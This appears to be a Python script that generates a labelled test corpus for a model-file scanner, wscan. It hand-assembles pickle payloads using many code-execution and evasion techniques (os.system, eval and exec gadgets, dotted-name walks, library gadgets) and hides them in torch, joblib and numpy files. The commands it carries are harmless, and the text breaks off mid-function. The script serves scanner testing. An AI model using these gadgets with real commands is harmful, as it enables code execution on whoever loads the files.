#!/usr/bin/env python3
"""Regenerate the wscan sample corpus: benign files written by the real libraries, hostile files
assembled opcode by opcode (or pickled by the standard pickler from `__reduce__` stand-ins).

    python corpus/build.py [--out corpus]

Every hostile payload is harmless: shell gadgets run `echo`, Python gadgets `print`, file gadgets name
a path under /tmp that does not exist. Nothing in this script loads a sample. Output is deterministic
(fixed seeds, fixed archive timestamps); the TorchScript sample embeds this file's path, as TorchScript
always records the source file of a scripted class. `MANIFEST.json` says, per file, what it is and which
rule IDs wscan must report, and where.
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import pickletools
import random
import shutil
import stat
import struct
import sys
import tarfile
import tempfile
import time
import types
import warnings
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from unittest import mock

SEED = 1234
FIXED_DATE = (2024, 1, 1, 0, 0, 0)
FIXED_EPOCH = 1704067200  # 2024-01-01T00:00:00Z
MIB = 1024 * 1024

# Member paths wscan reports are a chain: "outer.zip!inner.zip!payload.pkl".
Expect = dict[str, Any]


# --- what a hostile sample does when (never) loaded ------------------------------------------------


@dataclass(frozen=True)
class Payload:
    """The harmless effects hostile samples carry; tests swap in marker-file effects."""

    cmd: str = "echo wscan-corpus-hostile-sample"  # for os.system-like gadgets
    code: str = "print('wscan corpus hostile sample')"  # for eval/exec-like gadgets
    path: str = "/tmp/wscan-corpus-hostile-sample-does-not-exist"  # for file gadgets
    module: str = "mypackage"  # the unknown-but-harmless import
    target: tuple[str, str] = ("os", "system")  # the callable container payloads call with `cmd`


@dataclass
class Sample:
    path: str
    label: str  # benign | hostile
    technique: str
    made_by: str = ""
    rules: list[Expect] = field(default_factory=list)
    part_of: str = ""  # a clean file that only makes sense with another sample (a shard of a hostile index)

    def as_json(self) -> dict[str, Any]:
        data: dict[str, Any] = {"path": self.path, "label": self.label, "technique": self.technique}
        if self.made_by:
            data["made_by"] = self.made_by
        if self.part_of:
            data["part_of"] = self.part_of
        if self.label == "hostile":
            data["rules"] = self.rules
        return data


def expect(*ids: str, member: str | None = None) -> list[Expect]:
    """Expected rule IDs, optionally at a member chain inside the file."""
    return [{"id": i, "member": member} for i in ids]


class Corpus:
    """Writes samples under `out` and remembers them for the manifest."""

    def __init__(self, out: Path) -> None:
        self.out = out
        self.samples: list[Sample] = []

    def add(self, rel: str, data: bytes, technique: str, **meta: Any) -> Path:
        target = self.out / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        return self.record(rel, technique, **meta)

    def record(self, rel: str, technique: str, **meta: Any) -> Path:
        label = rel.split("/", 1)[0]
        self.samples.append(Sample(rel, label, technique, **meta))
        return self.out / rel


# --- a tiny pickle assembler ----------------------------------------------------------------------


def const(value: object, proto: int = 3) -> bytes:
    """Opcodes that push `value` (plain data only), taken from the stdlib pickler, memo stripped."""
    level = proto if proto < 2 else 3
    data = pickletools.optimize(pickle.dumps(value, protocol=level))
    if level >= 2:
        data = data[2:]
    assert data.endswith(pickle.STOP)
    return data[:-1]


def glob(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def text(value: str) -> bytes:
    raw = value.encode()
    if len(raw) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + pickle.STACK_GLOBAL


def call(func: bytes, args: tuple[Any, ...], proto: int = 3) -> bytes:
    """func(*args) with REDUCE; `args` are plain data."""
    return func + const(args, proto) + pickle.REDUCE


def stream(body: bytes, proto: int = 2) -> bytes:
    return (pickle.PROTO + bytes([proto]) if proto >= 2 else b"") + body + pickle.STOP


def getattr_of(obj: bytes, attr: str) -> bytes:
    """builtins.getattr(<obj>, attr)."""
    return glob("builtins", "getattr") + pickle.MARK + obj + const(attr) + pickle.TUPLE + pickle.REDUCE


def then_call(args: tuple[Any, ...]) -> bytes:
    """Call whatever is on top of the stack."""
    return const(args) + pickle.REDUCE


def target_call(p: Payload, proto: int = 2) -> bytes:
    """The container payload: <target>(cmd)."""
    return stream(call(glob(*p.target), (p.cmd,), proto), proto)


class _Reduce:
    """Pickles as func(*args). Pickling only names `func`; it is never called here."""

    def __init__(self, func: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.func, self.args)


@contextmanager
def resolvable(module: str, name: str) -> Iterator[Callable[..., Any]]:
    """A callable the stdlib pickler will name `module.name`, without importing that module.

    For modules that exist (os), the real callable; otherwise a placeholder module object registered in
    sys.modules only while pickling, so a canary module on sys.path is never executed.
    """
    if module in ("os", "posix"):
        yield getattr(os, name)
        return
    placeholder = types.ModuleType(module)

    def stand_in(*_args: object) -> None:  # never called
        raise AssertionError("placeholder")

    stand_in.__module__ = module
    stand_in.__qualname__ = name
    setattr(placeholder, name, stand_in)
    saved = sys.modules.get(module)
    sys.modules[module] = placeholder
    try:
        yield stand_in
    finally:
        if saved is None:
            del sys.modules[module]
        else:
            sys.modules[module] = saved


# --- containers with fixed metadata ---------------------------------------------------------------


def zip_bytes(members: list[tuple[str | zipfile.ZipInfo, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are a sample, not a mistake
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data in members:
                if isinstance(name, zipfile.ZipInfo):
                    info = name
                else:
                    info = zipfile.ZipInfo(name, FIXED_DATE)
                    info.external_attr = 0o644 << 16
                    info.compress_type = method
                zf.writestr(info, data, compresslevel=9 if info.compress_type == zipfile.ZIP_DEFLATED else None)
    return buf.getvalue()


def tar_bytes(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), FIXED_EPOCH, 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gz(data: bytes) -> bytes:
    return gzip.compress(data, compresslevel=9, mtime=0)


def sevenzip_bytes(members: list[tuple[str, bytes]]) -> bytes:
    import py7zr
    from py7zr.helpers import ArchiveTimestamp

    fixed = classmethod(lambda cls: cls((FIXED_EPOCH + 11644473600) * 10_000_000))
    buf = io.BytesIO()
    with mock.patch.object(ArchiveTimestamp, "from_now", fixed), py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members:
            archive.writestr(data, name)
    return buf.getvalue()


@contextmanager
def fixed_zip_clock() -> Iterator[None]:
    """Libraries that write zips themselves (numpy.savez) stamp members with the current time."""
    clock = types.SimpleNamespace(time=lambda: float(FIXED_EPOCH), localtime=time.gmtime)
    with mock.patch.object(zipfile, "time", clock):
        yield


def zip_offsets(data: bytes, name: str) -> tuple[int, int]:
    """Offsets of `name`'s local header and central directory entry."""
    encoded = name.encode()
    pos = 0
    while True:
        local = data.index(b"PK\x03\x04", pos)
        (length,) = struct.unpack_from("<H", data, local + 26)
        if data[local + 30 : local + 30 + length] == encoded:
            break
        pos = local + 4
    pos = 0
    while True:
        central = data.index(b"PK\x01\x02", pos)
        (length,) = struct.unpack_from("<H", data, central + 28)
        if data[central + 46 : central + 46 + length] == encoded:
            return local, central
        pos = central + 4


def patch(data: bytes, offset: int, new: bytes) -> bytes:
    return data[:offset] + new + data[offset + len(new) :]


# --- torch helpers --------------------------------------------------------------------------------


def torch_zip(
    replace: dict[str, bytes] | None = None,
    extra: list[tuple[str, bytes]] | None = None,
    rename: dict[str, str] | None = None,
) -> bytes:
    """A real torch.save checkpoint, re-zipped with some members replaced, renamed or added."""
    import torch

    torch.manual_seed(SEED)
    buf = io.BytesIO()
    torch.save({"weight": torch.randn(2, 2), "bias": torch.zeros(2)}, buf)
    members: list[tuple[str | zipfile.ZipInfo, bytes]] = []
    with zipfile.ZipFile(buf) as src:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info))
            members.append(((rename or {}).get(info.filename, info.filename), data))
    members.extend(extra or [])
    return zip_bytes(members)


def legacy_pickles(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of the five pickles that open a legacy torch.save file."""
    bounds: list[tuple[int, int]] = []
    start = 0
    while len(bounds) < 5:
        end = next(pos for op, _, pos in pickletools.genops(data[start:]) if op.name == "STOP") + start + 1
        bounds.append((start, end))
        start = end
    return bounds


def stable_legacy_keys(data: bytes, itemsize: int) -> bytes:
    """Legacy torch.save names storages by memory address and writes them in that order; rename them
    0, 1, ... by first use and reorder the raw storages to match, so builds repeat. All storages of the
    file must have the same element size."""
    bounds = legacy_pickles(data)
    (main_start, main_end), (keys_start, keys_end) = bounds[3], bounds[4]
    keys = [arg for op, arg, _ in pickletools.genops(data[keys_start:keys_end]) if op.name == "BINUNICODE"]
    blobs, pos = {}, keys_end
    for key in keys:
        (count,) = struct.unpack_from("<q", data, pos)
        blobs[key] = data[pos : pos + 8 + count * itemsize]
        pos += 8 + count * itemsize
    assert pos == len(data)
    used = [arg for op, arg, _ in pickletools.genops(data[main_start:main_end]) if arg in blobs]
    order = list(dict.fromkeys(used))
    main = data[main_start:main_end]
    for index, key in enumerate(order):
        old, new = key.encode(), str(index).encode()
        main = main.replace(b"X" + struct.pack("<I", len(old)) + old, b"X" + struct.pack("<I", len(new)) + new)
    key_list = pickle.dumps([str(i) for i in range(len(order))], protocol=2)
    return data[:main_start] + main + key_list + b"".join(blobs[key] for key in order)


def legacy_torch_with(main_pickle: bytes) -> bytes:
    """A real legacy torch.save file of an empty dict, its main (4th) pickle replaced."""
    import torch

    buf = io.BytesIO()
    torch.save({}, buf, _use_new_zipfile_serialization=False)
    data = buf.getvalue()
    main_start, main_end = legacy_pickles(data)[3]
    return data[:main_start] + main_pickle + data[main_end:]


# --- hostile samples ------------------------------------------------------------------------------

# (file name, pickle bytes, technique, expected rule IDs)
PickleSample = tuple[str, bytes, str, list[str]]


def technique_pickles(p: Payload) -> list[PickleSample]:
    mod, name = p.target
    target_rules = ["WS-PKL-001"] if mod in ("os", "posix") else ["WS-PKL-003"]
    posix_os = glob("posixpath", "os")  # find_class('posixpath', 'os') is the os module
    m = pickle.MARK
    samples: list[PickleSample] = [
        (
            "pickle-global-p0.pkl",
            stream(call(glob(mod, name), (p.cmd,), 0), 0),
            f"{mod}.{name} named by GLOBAL, called by REDUCE (protocol 0)",
            target_rules,
        ),
        (
            "pickle-long-leading-string-p0.pkl",
            stream(m + const("x" * 70_000, 0) + call(glob(mod, name), (p.cmd,), 0) + pickle.LIST, 0),
            f"{mod}.{name} after a 70 kB string: beyond the 64 KiB sniffed, in a file that reads as text",
            target_rules,
        ),
        (
            "pickle-stack-global-p4.pkl",
            stream(stack_global(mod, name) + const((p.cmd,)) + pickle.REDUCE, 4),
            f"{mod}.{name} named by STACK_GLOBAL (protocol 4)",
            target_rules,
        ),
        (
            "pickle-inst-p0.pkl",
            stream(m + const(p.cmd, 0) + pickle.INST + f"{mod}\n{name}\n".encode(), 0),
            f"{mod}.{name} named and called by INST",
            target_rules,
        ),
        (
            "pickle-obj-p1.pkl",
            stream(m + glob(mod, name) + const(p.cmd, 1) + pickle.OBJ, 1),
            f"{mod}.{name} called by OBJ",
            target_rules,
        ),
        (
            "pickle-newobj-p2.pkl",
            stream(glob(mod, name) + const((p.cmd,)) + pickle.NEWOBJ, 2),
            f"{mod}.{name} called by NEWOBJ",
            target_rules,
        ),
        (
            "pickle-newobj-ex-p4.pkl",
            stream(stack_global(mod, name) + const((p.cmd,)) + const({}) + pickle.NEWOBJ_EX, 4),
            f"{mod}.{name} called by NEWOBJ_EX",
            target_rules,
        ),
        (
            "pickle-builtins-eval.pkl",
            stream(call(glob("builtins", "eval"), (p.code,))),
            "builtins.eval of Python source",
            ["WS-PKL-001"],
        ),
        (
            "pickle-builtins-exec.pkl",
            stream(call(glob("builtins", "exec"), (p.code,))),
            "builtins.exec of Python source",
            ["WS-PKL-001"],
        ),
        (
            "pickle-builtins-getattr.pkl",
            stream(getattr_of(posix_os, "system") + then_call((p.cmd,))),
            "builtins.getattr(os, 'system') then called",
            ["WS-PKL-002", "WS-PKL-017"],  # posixpath.os walks into os; the looked-up os.system is not allowed
        ),
        (
            "pickle-builtins-import.pkl",
            stream(call(glob("builtins", "__import__"), (p.module,))),
            "builtins.__import__ of a module",
            ["WS-PKL-001"],
        ),
        (
            "pickle-builtins-open.pkl",
            stream(call(glob("builtins", "open"), (p.path, "w"))),
            "builtins.open for writing",
            ["WS-PKL-001"],
        ),
        (
            "pickle-dotted-tempfile-os-system.pkl",
            stream(stack_global("tempfile", "_os.system") + const((p.cmd,)) + pickle.REDUCE, 4),
            "dotted name tempfile._os.system resolves to os.system",
            ["WS-PKL-001"],
        ),
        (
            "pickle-dotted-walk-through-os.pkl",
            stream(stack_global("logging", "os.system") + const((p.cmd,)) + pickle.REDUCE, 4),
            "dotted name logging.os.system walks through the os module of an innocent one",
            ["WS-PKL-002"],
        ),
        (
            "pickle-dotted-walk-to-gadget.pkl",
            stream(stack_global("numpy", "ma.core.np.load") + const((p.path,)) + pickle.REDUCE, 4),
            "dotted name numpy.ma.core.np.load walks to a gadget name (load)",
            ["WS-PKL-012"],
        ),
        (
            "pickle-memo-built-names.pkl",
            stream(
                text(mod)
                + pickle.BINPUT
                + b"\x00"
                + pickle.POP
                + text(name)
                + pickle.BINPUT
                + b"\x01"
                + pickle.POP
                + pickle.BINGET
                + b"\x00"
                + pickle.BINGET
                + b"\x01"
                + pickle.STACK_GLOBAL
                + const((p.cmd,))
                + pickle.REDUCE,
                4,
            ),
            "module and name strings stored in the memo, fetched by GET into STACK_GLOBAL",
            target_rules,
        ),
        (
            "pickle-ext1-registered.pkl",
            stream(
                call(glob("copyreg", "add_extension"), (mod, name, 240))
                + pickle.POP
                + pickle.EXT1
                + bytes([240])
                + const((p.cmd,))
                + pickle.REDUCE
            ),
            "copyreg.add_extension registers an EXT1 code in the stream, EXT1 then names the callable",
            sorted({"WS-PKL-001", *target_rules}),
        ),
        (
            "pickle-ext2-unregistered.pkl",
            stream(pickle.EXT2 + struct.pack("<H", 0x2A2A) + const((p.cmd,)) + pickle.REDUCE),
            "EXT2 code that the stream never registers",
            ["WS-PKL-007"],
        ),
        (
            "pickle-computed-import.pkl",
            stream(call(glob("builtins", "str"), (mod,)) + text(name) + pickle.STACK_GLOBAL + then_call((p.cmd,)), 4),
            "STACK_GLOBAL module name is the result of builtins.str(...)",
            ["WS-PKL-004"],
        ),
        (
            "pickle-call-call-result.pkl",
            stream(
                glob("builtins", "getattr")
                + m
                + call(glob("builtins", "__import__"), (mod,))
                + const(name)
                + pickle.TUPLE
                + pickle.REDUCE
                + then_call((p.cmd,))
            ),
            "getattr(__import__(module), name) and REDUCE on the result",
            ["WS-PKL-001", "WS-PKL-005"],
        ),
        (
            "pickle-build-on-module.pkl",
            stream(glob("os", "path") + const({"sep": "/"}) + pickle.BUILD + pickle.POP + const(None)),
            "sleepy pickle: BUILD sets an attribute on the os.path module",
            ["WS-PKL-006", "WS-PKL-001"],
        ),
        (
            "pickle-setattr-on-class.pkl",
            stream(
                glob("builtins", "setattr")
                + m
                + glob("fractions", "Fraction")
                + const("wscan_tampered")
                + const(True)
                + pickle.TUPLE
                + pickle.REDUCE
            ),
            "builtins.setattr on a class",
            ["WS-PKL-001"],
        ),
        (
            "pickle-second-pickle-after-stop.pkl",
            pickle.dumps({"weights": [0.5, 0.25]}, protocol=2) + target_call(p),
            "a benign pickle, STOP, then a second pickle carrying the payload",
            target_rules,
        ),
        (
            "pickle-payload-then-truncated.pkl",
            (
                pickle.PROTO
                + b"\x02"
                + call(glob(mod, name), (p.cmd,))
                + pickle.BINUNICODE
                + struct.pack("<I", 1000)
                + b"abc"
            ),
            "payload runs, then the stream is cut inside an opcode argument",
            sorted({"WS-PKL-008", *target_rules}),
        ),
        (
            "pickle-payload-then-invalid-opcode.pkl",
            pickle.PROTO + b"\x02" + call(glob(mod, name), (p.cmd,)) + b"\xff" + pickle.STOP,
            "payload runs, then an invalid opcode",
            sorted({"WS-PKL-008", *target_rules}),
        ),
        (
            "pickle-unknown-import.pkl",
            stream(call(glob(p.module, "Thing"), ())),
            f"import of an unknown, not known-dangerous class {p.module}.Thing",
            ["WS-PKL-003"],
        ),
        (
            "pickle-py2-builtin-eval.pkl",
            stream(call(glob("__builtin__", "eval"), (p.code,), 2)),
            "Python 2 name __builtin__.eval (mapped to builtins.eval by find_class)",
            ["WS-PKL-001"],
        ),
        (
            "pickle-py2-posix-system.pkl",
            stream(call(glob("posix", "system"), (p.cmd,), 2)),
            "posix.system: os.system under its implementation module name",
            ["WS-PKL-001"],
        ),
    ]
    return samples


def gadget_pickles(p: Payload) -> list[PickleSample]:
    posix_os = glob("posixpath", "os")
    inner = target_call(p)
    url = "http://127.0.0.1:9/wscan-corpus"
    m = pickle.MARK
    code_args = (0, 0, 0, 0, 1, 67, b"d\x00S\x00", (None,), (), (), "<wscan>", "f", "f", 1, b"", b"", (), ())
    samples: list[PickleSample] = [
        ("pip-main", call(glob("pip", "main"), (["--version"],)), "pip.main", []),
        ("ensurepip", call(glob("ensurepip", "_main"), (["--version"],)), "ensurepip._main", []),
        (
            "pkgutil-resolve-name",
            call(glob("pkgutil", "resolve_name"), ("os:system",)) + then_call((p.cmd,)),
            "pkgutil.resolve_name('os:system') then called",
            ["WS-PKL-005"],
        ),
        ("runpy-run-code", call(glob("runpy", "_run_code"), (p.code, {})), "runpy._run_code", []),
        (
            "importlib-import-module",
            glob("builtins", "getattr")
            + m
            + call(glob("importlib", "import_module"), ("os",))
            + const("system")
            + pickle.TUPLE
            + pickle.REDUCE
            + then_call((p.cmd,)),
            "getattr(importlib.import_module('os'), 'system') then called",
            ["WS-PKL-005"],
        ),
        (
            "code-interactive-interpreter",
            getattr_of(call(glob("code", "InteractiveInterpreter"), ()), "runsource") + then_call((p.code,)),
            "code.InteractiveInterpreter().runsource",
            [],  # made from no arguments: the lookup is judged as the name code.InteractiveInterpreter.runsource
        ),
        ("cprofile-run", call(glob("cProfile", "run"), (p.code,)), "cProfile.run", []),
        (
            "timeit-timeit",
            glob("timeit", "timeit")
            + m
            + const(p.code)
            + const("pass")
            + glob("timeit", "default_timer")
            + const(1)
            + pickle.TUPLE
            + pickle.REDUCE,
            "timeit.timeit",
            [],
        ),
        ("pydoc-pipepager", call(glob("pydoc", "pipepager"), ("wscan", p.cmd)), "pydoc.pipepager", []),
        ("doctest-debug-script", call(glob("doctest", "debug_script"), (p.code,)), "doctest.debug_script", []),
        ("webbrowser-open", call(glob("webbrowser", "open"), (url,)), "webbrowser.open", []),
        (
            "socket-create-connection",
            call(glob("socket", "create_connection"), (("127.0.0.1", 9),)),
            "socket.create_connection",
            [],
        ),
        ("urllib-urlopen", call(glob("urllib.request", "urlopen"), (url,)), "urllib.request.urlopen", []),
        ("shutil-rmtree", call(glob("shutil", "rmtree"), (p.path, True)), "shutil.rmtree", []),
        (
            "ctypes-cdll",
            getattr_of(call(glob("ctypes", "CDLL"), (None,)), "system") + then_call((p.cmd.encode(),)),
            "ctypes.CDLL(None).system",
            [],  # made from constants: the lookup is judged as the name ctypes.CDLL.system
        ),
        (
            "multiprocessing-spawnv-passfds",
            call(glob("multiprocessing.util", "spawnv_passfds"), ("/bin/sh", ["sh", "-c", p.cmd], ())),
            "multiprocessing.util.spawnv_passfds",
            [],
        ),
        (
            "asyncio-create-subprocess-exec",
            call(glob("asyncio.subprocess", "create_subprocess_exec"), ("/bin/sh", "-c", p.cmd)),
            "asyncio.subprocess.create_subprocess_exec",
            [],
        ),
        (
            "operator-attrgetter",
            call(glob("operator", "attrgetter"), ("system",))
            + m
            + posix_os
            + pickle.TUPLE
            + pickle.REDUCE
            + then_call((p.cmd,)),
            "operator.attrgetter('system')(os) then called",
            ["WS-PKL-005"],
        ),
        (
            "operator-methodcaller",
            call(glob("operator", "methodcaller"), ("system", p.cmd)) + m + posix_os + pickle.TUPLE + pickle.REDUCE,
            "operator.methodcaller('system', cmd)(os)",
            ["WS-PKL-005"],
        ),
        (
            "functools-partial",
            glob("functools", "partial")
            + m
            + glob("os", "system")
            + const(p.cmd)
            + pickle.TUPLE
            + pickle.REDUCE
            + then_call(()),
            "functools.partial(os.system, cmd)()",
            ["WS-PKL-005"],
        ),
        (
            "functools-reduce",
            glob("functools", "reduce")
            + m
            + glob("builtins", "getattr")
            + const(("system",))
            + posix_os
            + pickle.TUPLE
            + pickle.REDUCE
            + then_call((p.cmd,)),
            "functools.reduce(getattr, ('system',), os) then called",
            ["WS-PKL-005"],
        ),
        (
            "types-codetype-functiontype",
            glob("types", "FunctionType")
            + m
            + call(glob("types", "CodeType"), code_args)
            + const({})
            + pickle.TUPLE
            + pickle.REDUCE
            + then_call(()),
            "types.CodeType built from constants, wrapped by types.FunctionType, called",
            ["WS-PKL-005"],
        ),
        (
            "marshal-loads",
            glob("types", "FunctionType")
            + m
            + call(glob("marshal", "loads"), (b"\xe3" + bytes(40),))
            + const({})
            + pickle.TUPLE
            + pickle.REDUCE,
            "marshal.loads of code bytes into types.FunctionType",
            [],
        ),
        ("pickle-loads-nested", call(glob("pickle", "loads"), (inner,)), "pickle.loads of a nested payload", []),
        ("torch-load", call(glob("torch", "load"), (p.path,)), "torch.load of another file", []),
        ("numpy-load", call(glob("numpy", "load"), (p.path, None, True)), "numpy.load(allow_pickle=True)", []),
        (
            "torch-storage-load-from-bytes",
            call(glob("torch.storage", "_load_from_bytes"), (inner,)),
            "torch.storage._load_from_bytes of a nested payload",
            [],
        ),
    ]
    return [
        (f"gadget-{name}.pkl", stream(body, 3), f"gadget: {technique}", ["WS-PKL-001", *extra])
        for name, body, technique, extra in samples
    ]


# The three parsers scipy's rv_generic.__setstate__ expects its exec'd template to define.
SCIPY_PARSERS = (
    "def _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n"
    "def _parse_args_rvs(self, loc=0, scale=1, size=None):\n    return (), loc, scale, size\n"
    "def _parse_args_stats(self, loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\n"
)


def scipy_distribution_pickle(code: str) -> bytes:
    """A scipy.stats normal distribution whose pickled `_parse_arg_template` starts with `code`: SciPy execs
    that template when it unpickles any distribution (rv_generic.__setstate__)."""
    state = {"_parse_arg_template": code + "\n" + SCIPY_PARSERS}
    body = glob("scipy.stats._continuous_distns", "norm_gen") + const(()) + pickle.NEWOBJ + const(state) + pickle.BUILD
    return stream(body, 3)


def scoring_monitor_pickle(host: str, port: int) -> bytes:
    """scikit-learn's ScoringMonitor whose pickled listener address is `host:port`: unpickling it connects there
    (multiprocessing Client in ScoringMonitor.__setstate__), then opens a listener of its own."""
    handle = call(glob("sklearn.callback._transport", "ListenerHandle"), ((host, port), b"k" * 32))
    state = pickle.EMPTY_DICT + pickle.MARK + const("_listener_handle") + handle + const("_log") + pickle.EMPTY_LIST
    body = glob("sklearn.callback._scoring_monitor", "ScoringMonitor") + const(()) + pickle.NEWOBJ + state
    return stream(body + pickle.SETITEMS + pickle.BUILD, 3)


def library_gadget_pickles(p: Payload) -> list[PickleSample]:
    """Classes of well-known libraries whose unpickling does something: a code string run, a connection made."""
    return [
        (
            "gadget-scipy-distribution-template.pkl",
            scipy_distribution_pickle(p.code),
            "library gadget: a scipy.stats distribution whose pickled argument-parser template SciPy execs on load",
            ["WS-PKL-032"],
        ),
        (
            "gadget-sklearn-scoring-monitor.pkl",
            scoring_monitor_pickle("127.0.0.1", 9),
            "library gadget: scikit-learn's ScoringMonitor connects to the address in its state on load",
            ["WS-PKL-013", "WS-PKL-001"],
        ),
    ]


def build_hostile(corpus: Corpus, p: Payload) -> None:
    """Every hostile sample."""
    for name, data, technique, rules in technique_pickles(p) + gadget_pickles(p) + library_gadget_pickles(p):
        corpus.add(f"hostile/{name}", data, technique, rules=expect(*rules))
    payload = target_call(p)
    main_rules = ["WS-PKL-001"] if p.target[0] in ("os", "posix") else ["WS-PKL-003"]
    build_hostile_torch(corpus, p, payload, main_rules)
    build_hostile_numpy(corpus, p, main_rules)
    build_hostile_archives(corpus, payload, main_rules)
    build_hostile_safetensors(corpus, payload, main_rules)
    build_hostile_shards(corpus)
    build_hostile_repo(corpus)
    build_hostile_gguf(corpus, payload, main_rules)
    build_hostile_onnx(corpus)
    build_hostile_flax(corpus, payload, main_rules)
    build_hostile_tflite(corpus)
    build_hostile_openvino(corpus)
    build_hostile_pt2(corpus)
    build_hostile_keras_tf(corpus)
    build_hostile_configs(corpus)
    build_distributed_checkpoint(corpus, payload, main_rules)
    build_hostile_sklearn_native(corpus)
    build_hostile_boosters(corpus)
    build_hostile_openmmlab(corpus)
    build_hostile_array_interface(corpus)
    build_hostile_pandas_blocks(corpus)
    build_hostile_skops(corpus, p)


def build_hostile_torch(corpus: Corpus, p: Payload, payload: bytes, rules: list[str]) -> None:
    corpus.add(
        "hostile/torch-zip-payload-data-pkl.pt",
        torch_zip(replace={"archive/data.pkl": payload}),
        "torch.save zip checkpoint whose data.pkl is replaced by a payload",
        rules=expect(*rules, member="archive/data.pkl"),
    )
    corpus.add(
        "hostile/torch-zip-extra-pickle-member.pt",
        torch_zip(extra=[("archive/extra_state.pkl", payload)]),
        "torch zip checkpoint with an extra pickle member under another name",
        rules=expect(*rules, member="archive/extra_state.pkl"),
    )
    corpus.add(
        "hostile/torch-zip-weird-member-name.pt",
        torch_zip(replace={"archive/data.pkl": payload}, rename={"archive/data.pkl": "archive/x/data.pkl"}),
        "torch zip checkpoint whose pickle sits at archive/x/data.pkl",
        rules=expect(*rules, member="archive/x/data.pkl"),
    )
    corpus.add(
        "hostile/torch-zip-pickle-in-storage-slot.pt",
        torch_zip(extra=[("archive/data/99", payload)]),
        "torch zip checkpoint with a pickle hidden in an unreferenced storage slot",
        rules=expect(*rules, member="archive/data/99"),
    )
    corpus.add(
        "hostile/torch-legacy-payload.pt",
        legacy_torch_with(payload),
        "legacy (non-zip) torch.save file whose main pickle is a payload",
        rules=expect(*rules),
    )


class _Unseekable(io.RawIOBase):
    """A file joblib cannot ask for its position (a pipe): joblib.dump then writes arrays without alignment."""

    def __init__(self) -> None:
        self.written = io.BytesIO()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        return self.written.write(data)

    def tell(self) -> int:
        raise io.UnsupportedOperation


def build_hostile_numpy(corpus: Corpus, p: Payload, rules: list[str]) -> None:
    import joblib
    import numpy as np

    with tempfile.TemporaryDirectory() as tmp, resolvable(*p.target) as func:
        evil = _Reduce(func, (p.cmd,))
        objects = np.empty(2, dtype=object)
        objects[0], objects[1] = "weights", evil
        for rel, value, kwargs, technique in [
            (
                "joblib-reduce-payload.joblib",
                {"model": evil},
                {},
                "joblib.dump of an object whose __reduce__ names the payload",
            ),
            (
                "joblib-object-array-payload.joblib",
                {"array": objects},
                {},
                "joblib.dump of an object array: the payload is in the nested pickle after the NumpyArrayWrapper",
            ),
            (
                "joblib-zlib-payload.joblib",
                {"model": evil},
                {"compress": 3},
                "joblib.dump(compress=3) (zlib) of a __reduce__ payload",
            ),
            (
                "joblib-lz4-payload.joblib",
                {"model": evil},
                {"compress": ("lz4", 3)},
                "joblib.dump(compress='lz4') of a __reduce__ payload: an LZ4 frame",
            ),
        ]:
            path = Path(tmp) / rel
            joblib.dump(value, path, **kwargs)
            corpus.add(f"hostile/{rel}", path.read_bytes(), technique, rules=expect(*rules), made_by="joblib.dump")
        # An unaligned joblib array (what joblib.dump writes to a pipe) whose bytes are opcodes: joblib.load reads
        # numbers, pickle.load / torch.load / pandas.read_pickle run them, calling a gadget off the dangerous list.
        opcodes = (b"cdataclasses\n_create_fn\n(Vf\n(Va=exec(" + repr(p.code).encode() + b")\nl(Vpass\nltR0")
        unaligned = _Unseekable()
        joblib.dump({"weights": np.frombuffer(opcodes, dtype=np.uint8).copy()}, unaligned)
        corpus.add(
            "hostile/joblib-array-bytes-payload.pkl",
            unaligned.written.getvalue(),
            "joblib.dump to a pipe of a uint8 array whose bytes are opcodes: a plain unpickler runs "
            "dataclasses._create_fn (exec) from them, joblib.load reads numbers",
            rules=expect("WS-PKL-003"),
            made_by="joblib.dump",
        )
        from joblib.numpy_pickle_compat import write_zfile

        zfile = io.BytesIO()
        write_zfile(zfile, pickle.dumps({"model": evil}, protocol=2))
        corpus.add(
            "hostile/joblib-zfile-payload.pkl",
            zfile.getvalue(),
            "joblib's pre-0.10 Z-file ('ZF', hex length, zlib): joblib.load still reads it",
            rules=expect(*rules),
            made_by="joblib.numpy_pickle_compat.write_zfile",
        )
        npy = io.BytesIO()
        np.save(npy, objects, allow_pickle=True)
        payload_pickle = pickle.dumps({"model": evil}, protocol=2)
    corpus.add(
        "hostile/npy-object-array-payload.npy",
        npy.getvalue(),
        "np.save of an object array: the pickle after the header carries the payload",
        rules=expect(*rules),
        made_by="numpy.save",
    )
    corpus.add(
        "hostile/npz-object-array-payload.npz",
        zip_bytes([("arr_0.npy", npy.getvalue())]),
        "npz archive holding that object-array npy",
        rules=expect(*rules, member="arr_0.npy"),
    )
    header = "{'descr': 'f8,O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    long4 = b"\x8b" + struct.pack("<i", 70_000) + b"\x01" * 70_000 + b"0"  # a 70 KB integer, popped
    corpus.add(
        "hostile/npy-comma-descr-long4-payload.npy",
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + long4 + payload_pickle,
